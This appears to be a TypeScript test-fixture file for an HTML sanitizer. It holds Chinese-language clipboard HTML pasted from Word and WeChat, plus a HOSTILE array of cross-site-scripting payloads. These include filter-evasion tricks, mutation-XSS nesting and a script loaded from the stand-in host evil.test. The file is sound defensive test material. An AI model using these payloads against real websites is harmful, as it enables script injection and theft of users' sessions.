/** As Word puts it on the clipboard: lines broken in the middle of a sentence, signs of lists written out, own tags. */
export const FROM_WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm; font-family:DengXian} @page {size:595pt 842pt} --></style>
<xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml></head>
<body lang=ZH-CN style='word-wrap:break-word'><!--StartFragment-->
<h1 style='margin:17pt 0cm'><span style='font-size:22pt'>枕头下的信封<o:p></o:p></span></h1>
<p class=MsoNormal style='text-indent:21pt'><span style='font-family:仿宋'>早上六点半，夜班快交的时候，
护士在枕头底下摸到<b>一个信封</b>。</span><span lang=EN-US><o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<h2>后来怎么办</h2>
<p class=MsoListParagraph style='margin-left:18pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='mso-list:Ignore'>1.<span style='font:7pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]><span>两个人当面<span style='font-weight:bold'>封好</span></span></p>
<p class=MsoListParagraph style='margin-left:18pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='mso-list:Ignore'>2.<span>&nbsp;&nbsp; </span></span><![endif]><span>交给护士长</span></p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp; </span></span><![endif]><span>写下时间</span></p>
<p class=MsoNormal>规定在<a href="https://www.gov.cn/zhengce/1.htm" style='color:#0563C1'>这里</a>，不在<a href="file:///C:/Users/a.docx">这里</a>。</p>
<table class=MsoTableGrid border=1><tr><td><p class=MsoNormal>科室</p></td><td><p class=MsoNormal>退回</p></td></tr><tr><td>呼吸科</td><td>3 次</td></tr></table>
<p class=MsoNormal><!--[if gte vml 1]><v:shape id="a"><v:imagedata src="file:///C:/clip.png"/></v:shape><![endif]--><img width=200 src="file:///C:/clip_image002.png"></p>
<!--EndFragment--></body></html>`

/** As an article of a WeChat account is copied: sections in sections, everything styled, line ends for air. */
export const FROM_WECHAT = `<section data-role="outer" label="edit" style="font-size:16px;letter-spacing:1.5px">
<section style="text-align:center"><section style="display:inline-block;border-bottom:2px solid #0a0"><h3 style="font-size:18px">一碗热粥</h3></section></section>
<p style="white-space:normal"><br></p>
<p><span style="font-size:15px;color:rgb(63,63,63)">夜里两点，<strong><span>小卢</span></strong>又去了一趟。</span><br><span>粥还热着。</span></p>
<section powered-by="editor"><section style="margin:10px"><img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/a" data-ratio="0.66"></section></section>
<blockquote class="js_blockquote_wrap"><section><p>不是不领情。</p></section><section><p>领了，下一床怎么想？</p></section></blockquote>
<ul class="list-paddingleft-1"><li><p>谢谢收下</p></li><li><p>红包退回</p><ul><li>当面退</li></ul></li></ul>
<p><a href="https://mp.weixin.qq.com/s?__biz=MzA&amp;mid=1" data-itemshowtype="0" tab="innerlink">上一篇</a>​ ﻿</p>
<mp-common-profile class="js_uneditable" data-nickname="某医院"></mp-common-profile>
<iframe class="video_iframe" src="https://v.qq.com/x"></iframe><p style="display:none;">关注我们</p></section>`

/** Every one tries to run `attack()`, to lead to something that runs, or to bring in what is no word. */
export const HOSTILE: readonly string[] = [
  '<script>attack()</script>字',
  '<ScRiPt src=https://evil.test/a.js></sCrIpT>字',
  '<p onclick="attack()">字</p>',
  '<p/onmouseover=attack()>字</p>',
  '<img src=x onerror=attack()>字',
  '<img src=x:alert(1) onerror=eval(src)>字',
  '<body onload=attack()>字',
  '<svg onload=attack()>字</svg>',
  '<svg><script>attack()</script></svg>字',
  '<svg><a xlink:href="javascript:attack()"><text>字</text></a></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:attack() /></svg>字',
  '<svg><foreignObject><iframe srcdoc="<script>attack()</script>"></iframe></foreignObject></svg>字',
  '<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>字',
  '<math href="javascript:attack()">字</math>',
  '<a href="javascript:attack()">字</a>',
  '<a href="JaVaScRiPt:attack()">字</a>',
  '<a href=" javascript:attack()">字</a>',
  '<a href="java\tscript:attack()">字</a>',
  '<a href="java&#10;script:attack()">字</a>',
  '<a href="&#106;avascript:attack()">字</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;attack()">字</a>',
  '<a href="\u0001javascript:attack()">字</a>',
  '<a href="javascript&colon;attack()">字</a>',
  '<a href="vbscript:attack()">字</a>',
  '<a href="data:text/html,<script>attack()</script>">字</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==">字</a>',
  '<a href="//evil.test/a">字</a>',
  '<a href="http://evil.test/a">字</a>',
  '<a href="https://good.test@evil.test/\'><script>attack()</script>">字</a>',
  '<a href="https:javascript:attack()">字</a>',
  '<iframe src="javascript:attack()"></iframe>字',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>字',
  '<object data="javascript:attack()"></object>字',
  '<embed src="data:image/svg+xml,<svg onload=attack()>">字',
  '<form action="javascript:attack()"><button>字</button></form>',
  '<button formaction="javascript:attack()">字</button>',
  '<input autofocus onfocus=attack()>字',
  '<details open ontoggle=attack()>字</details>',
  '<style>@import "javascript:attack()"; p{background:url(javascript:attack())}</style>字',
  '<p style="background:url(javascript:attack());width:expression(attack())">字</p>',
  '<link rel=stylesheet href="javascript:attack()">字',
  '<base href="https://evil.test/"><a href="a">字</a>',
  '<meta http-equiv=refresh content="0;url=javascript:attack()">字',
  '<template><script>attack()</script></template>字',
  '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>字',
  '<p id="attributes" name="parentNode"><input name="childNodes">字</p>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()></style>字',
  '<svg></p><style><a id="</style><img src=1 onerror=attack()>">字</a>',
  '<!--><img src=x onerror=attack()>-->字',
  '<!--[if IE]><script>attack()</script><![endif]-->字',
  '<![CDATA[<script>attack()</script>]]>字',
  '<xss><textarea><img title="</textarea><img src=x onerror=attack()>">字',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">attack()</x:script>字',
  '<custom-element is="x" onclick=attack()>字</custom-element>',
  '<marquee onstart=attack()>字</marquee>',
  '<video><source onerror=attack()></video>字',
  `${'<div>'.repeat(600)}字<img src=x onerror=attack()>`,
  '<p>字\u202e\u200b\u0000</p>',
]
